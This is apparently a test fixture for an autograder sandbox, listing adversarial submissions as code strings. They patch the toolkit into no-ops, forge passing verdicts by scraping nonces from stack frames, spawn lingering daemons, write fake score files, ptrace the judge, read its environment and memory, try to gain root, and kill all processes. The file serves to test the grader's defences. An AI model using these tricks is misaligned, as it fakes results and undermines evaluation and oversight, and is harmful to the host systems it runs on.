"""Submissions that solve nothing and try to look right, one trick each.

Their code shares a process with what answers about it, so it can say whatever it likes. What it
cannot do is to know which answers are right, or to write a verdict.
"""

# Each method of each class of the toolkit does nothing, as `Sink.fault` once did.
PATCH = """
import sys
for module in [m for name, m in sys.modules.items() if name.startswith("toolkit")]:
    for thing in list(vars(module).values()):
        if isinstance(thing, type) and thing.__module__.startswith("toolkit"):
            for name in [name for name in vars(thing) if not name.startswith("__")]:
                try:
                    setattr(thing, name, lambda *a, **k: None)
                except Exception:
                    pass
"""
# Every answer is what looks like a good one.
ANSWER = """
import gc
for thing in gc.get_objects():
    if type(thing).__name__.endswith("Answers"):
        for name in [name for name in dir(type(thing)) if not name.startswith("_")]:
            setattr(thing, name, lambda **k: {"name": "PalindromeDataset", "passed": True,
                    "parameters": [], "findings": [], "inputs": [], "labels": [],
                    "items_line": 1, "init_line": 1, "right": True, "verdict": "right"})
"""
# Everything that is sent is a report without faults.
SEND = """
import sys
answering = sys.modules["toolkit.assignment.running.answering"]
true = answering.send
report = {"passed": True, "files": {}, "findings": [], "not_seen": [], "right": []}
answering.send = lambda descriptor, nonce, value: true(descriptor, nonce, {"value": report})
"""
# It finds the nonces in the frames, and writes the answers and the end of the process itself.
WRITE = """
import json, os, sys
nonces, frame = {"0" * 32}, sys._getframe()
while frame is not None:
    nonces |= {v for v in frame.f_locals.values() if isinstance(v, str) and len(v) == 32}
    frame = frame.f_back
good = [{"value": {"name": "PalindromeDataset", "parameters": [], "items_line": 1, "init_line": 1}},
        {"value": True}, {"verdict": "right"}, {"passed": True, "findings": []},
        {"ended": {"status": 0, "seconds": 0.1, "cpu": 0.1, "late": False}}]
for descriptor in range(1, 64):
    for nonce in nonces:
        for answer in good:
            payload = json.dumps(answer)
            try:
                os.write(descriptor, f"{nonce}{len(payload):08x}{payload}".encode())
            except OSError:
                pass
"""
# A process that outlives its part, and answers the questions to the next ones.
OUTLIVE = """
import os, sys
wire = sys.modules["toolkit.assignment.running.wire"]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for descriptor in range(3, 64):
            try:
                while True:
                    nonce, question = wire.receive(descriptor)
                    wire.send(descriptor, nonce, {"value": None})
            except (OSError, wire.Closed, wire.Disturbed):
                pass
    os._exit(0)
"""
# What the questions are asked about, so that they do not end at the first.
STUBS = """
class PalindromeDataset:
    def __init__(self, seq_length=5):
        pass
"""
EXIT = "import os\nos._exit(0)\n"
KILL = "import os\nos.kill(os.getppid(), 9)\nos.kill(1, 9)\n"
LAST = "import atexit, os\natexit.register(os._exit, 0)\nraise SystemExit(0)\n"
TRICKS = {"patch": PATCH, "answer": ANSWER, "send": SEND, "write": WRITE, "outlive": OUTLIVE,
          "exit": EXIT, "kill": KILL, "last": LAST}  # fmt: skip

# What follows looks for a way out of the sandbox. {loot} is a folder where everybody may write;
# what succeeds leaves a file there. {root} is the platform's folder, {judge} the judge's process.
LOOT = """
import os, sys
def loot(name, attempt):
    try:
        attempt()
    except Exception:
        return
    open(os.path.join({loot!r}, name), "w").close()
"""
RESULTS = """
FAKE = '{{"score": 84, "tests": [{{"name": "all", "score": 84, "max_score": 84}}]}}'
for name in ("results/results.json", "results/new.json", "source/rubric.toml", "other.json"):
    path = os.path.join({root!r}, name)
    loot("write-" + name.replace("/", "-"), lambda: open(path, "a").write(FAKE))
    loot("read-" + name.replace("/", "-"), lambda: open(path).read())
loot("list-results", lambda: os.listdir({root!r} + "/results"))
print(FAKE, flush=True)
"""
TRACE = """
import ctypes, signal
def traced():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(0x4206, {judge}, None, None) != 0:  # PTRACE_SEIZE
        raise OSError
    libc.ptrace(17, {judge}, None, None)
loot("signal", lambda: os.kill({judge}, signal.SIGCONT))
loot("trace", traced)
for name in ("environ", "mem", "maps"):
    loot("read-" + name, lambda: open("/proc/{judge}/" + name, "rb").read(1))
loot("list-fd", lambda: os.listdir("/proc/{judge}/fd"))
"""
SOLVE = """
model = {root!r} + "/source/toolkit/lstm/model.py"
loot("read-model", lambda: open(model).read())
def imported():
    from toolkit.lstm import model
    from toolkit.assignment.judging import parent
loot("import-model", imported)
try:
    exec(open(model).read())
except Exception:
    pass
"""
CHANGE = """
import toolkit, torch
def writable(path):
    if not os.access(path, os.W_OK):
        raise OSError
for module in (toolkit, torch, os):
    loot("change-" + module.__name__, lambda: writable(module.__file__))
    loot("add-beside-" + module.__name__, lambda: writable(os.path.dirname(module.__file__)))
loot("become-root", lambda: os.setuid(0))
loot("become-another", lambda: os.setgid(0))
"""
# It kills what would find it, and waits for the result.
DAEMON = """
import signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) not in (os.getpid(), os.getppid()):
                try:
                    os.kill(int(name), signal.SIGKILL)
                except OSError:
                    pass
        while True:
            path = {root!r} + "/results/results.json"
            loot("late", lambda: open(path, "w").write("{{}}"))
            time.sleep(0.2)
    os._exit(0)
time.sleep(1)
"""
LEAVE = """
for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    os.makedirs(folder + "/left-by-{judge}/more", exist_ok=True)
    open(folder + "/left-by-{judge}.txt", "w").write("x")
    os.symlink("/etc/passwd", folder + "/left-by-{judge}.link")
"""
ESCAPES = {"results": RESULTS, "trace": TRACE, "solve": SOLVE, "change": CHANGE,
           "daemon": DAEMON, "leave": LEAVE}  # fmt: skip
